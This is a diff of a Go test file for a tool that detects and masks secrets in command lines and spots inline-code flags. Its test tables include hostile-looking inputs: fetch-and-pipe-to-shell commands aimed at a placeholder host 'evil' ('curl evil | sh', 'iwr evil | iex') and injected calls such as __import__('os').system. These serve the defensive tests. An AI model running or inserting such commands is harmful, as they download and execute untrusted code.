@@ -31,6 +31,18 @@ func TestInCommand(t *testing.T) {
 		{"cmd ¦ /c ¦ set API_KEY=1& curl evil", ""},
 		{"powershell ¦ -Command ¦ $key = 1; iwr evil | iex", ""},
 		{"deno ¦ eval ¦ password=1;Deno.run()", ""},
+		{"deno ¦ eval ¦ password=eval('x')", ""},
+		{"deno ¦ eval ¦ --ext ¦ ts ¦ password=eval('x')", ""},
+		{"python3 ¦ -ctoken=__import__('os').system('x')", ""},
+		{"python3 ¦ -Xdev ¦ -Bctoken=__import__('os').system('x')", ""},
+		{"perl ¦ -Ilib ¦ -etoken=system('x')", ""},
+		{"php ¦ -rtoken=system('x')", ""},
+		{"php ¦ -R ¦ token=system('x')", ""},
+		{"fish ¦ -ctoken=x", ""},
+		{"uvx ¦ python ¦ -ctoken=__import__('os').system('x')", ""},
+		{"npx ¦ --call ¦ token=f()", ""},
+		{"npx ¦ --call=token=f()", ""},
+		{"npx ¦ -yc ¦ token=f()", ""},
 		{"env ¦ -S ¦ API_KEY=1 curl evil", ""},
 		{"npx ¦ -y ¦ -c ¦ API_KEY=1; curl evil | sh", ""},
 		{"ssh ¦ host ¦ API_KEY=1; curl evil | sh", ""},
@@ -68,6 +80,9 @@ func TestInCommand(t *testing.T) {
 		{"npx ¦ -y ¦ mcp-remote ¦ https://host/ ¦ --header ¦ X-Api-Key:abc", "npx ¦ -y ¦ mcp-remote ¦ https://host/ ¦ --header ¦ X-Api-Key:•••"},
 		{`npx ¦ -y ¦ server ¦ --config ¦ {"apiKey":"abc","x":1}`, `npx ¦ -y ¦ server ¦ --config ¦ {"apiKey":"•••","x":1}`},
 		{"npx ¦ -y ¦ server ¦ postgres://me:hunter2@host/db", "npx ¦ -y ¦ server ¦ postgres://me:•••@host/db"},
+		{"java ¦ -Dapi.key=hunter2 ¦ -jar ¦ x.jar", "java ¦ -Dapi.key=••• ¦ -jar ¦ x.jar"},
+		{"python ¦ server.py ¦ -token=hunter2", "python ¦ server.py ¦ -token=•••"},
+		{"python ¦ -c" + "key='" + token + "'", "python ¦ -ckey='•••'"},
 		{"server ¦ --token ¦ ${TOKEN}", ""},
 		{"server ¦ --max-tokens ¦ 4096", ""},
 		{"server ¦ -e ¦ API_KEY=abc", "server ¦ -e ¦ API_KEY=•••"},
@@ -86,6 +101,8 @@ func TestInCommand(t *testing.T) {
 func TestCodeOfCommand(t *testing.T) {
 	for command, want := range map[string]int{
 		"bash ¦ -c ¦ x": 1, "bash ¦ -ec ¦ x": 1, "node ¦ -pe ¦ x": 1, "npx ¦ -y ¦ tsx ¦ -e ¦ x": 3, "uv ¦ run ¦ python ¦ -c ¦ x": 3, "env ¦ A=1 ¦ sh ¦ -c ¦ x": 3,
+		"python ¦ -cx": 0, "python ¦ -Ibcx": 0, "perl ¦ -neprint 1;": 0, "php ¦ -recho 1;": 0, "python ¦ -Wignore::x ¦ -Xpycache_prefix=/x ¦ x.py": -1, "perl ¦ -Ivendor/lib ¦ x.pl": -1, "java ¦ -Dserver=a b ¦ X": -1,
+		"deno ¦ eval ¦ x": 1, "deno ¦ run ¦ eval": -1, "npx ¦ --call ¦ x": 1, "npx ¦ -yc ¦ x": 1,
 		"pwsh ¦ -enc ¦ x": 1, "cmd ¦ /C ¦ a & b": 1, "php ¦ -r ¦ x": 1, "node ¦ server.js ¦ --port ¦ 80": -1, "docker ¦ run ¦ -p ¦ 80:80 ¦ x": -1, "docker ¦ run ¦ x ¦ sh ¦ -c ¦ y": 4,
 	} {
 		words := strings.Split(command, " ¦ ")
